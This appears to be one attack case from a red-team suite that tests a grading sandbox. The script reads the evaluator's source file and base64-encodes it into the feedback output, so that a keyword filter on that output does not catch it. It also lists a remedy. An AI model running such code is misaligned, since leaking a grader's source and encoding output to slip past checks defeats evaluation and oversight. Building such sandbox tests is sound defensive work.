# SPDX-License-Identifier: MIT
"""Goal:  the evaluator's source reaches the student, who has no network.
Means: the channel that has to be open. Standard output is shown to the student as feedback; base64
       of the text is nothing that a check of the output for known words would find. No network
       rule applies: only what cannot be read cannot be sent.
"""

import base64

from attack import DONE, attempting, denied, loot


def run(brief):
    attempting()
    try:
        with open("/var/task/evaluator.py", "rb") as file:
            source = file.read(65536)
    except OSError as why:
        return denied("/var/task/evaluator.py", why)
    loot(base64.b64encode(source))
    return DONE


ATTACK = {
    "effect": "the evaluator's source leaves in the student's feedback",
    "means": "base64 on standard output, the one channel that must stay open",
    "oracle": "secret:task",
    "quick": True,
    "id": "NET-13",
    "attack_id": "T1048, T1132.001, CWE-200",
    "remedy": "no secret within reach: Landlock without /var/task; feedback with a schema",
    "run": run,
}
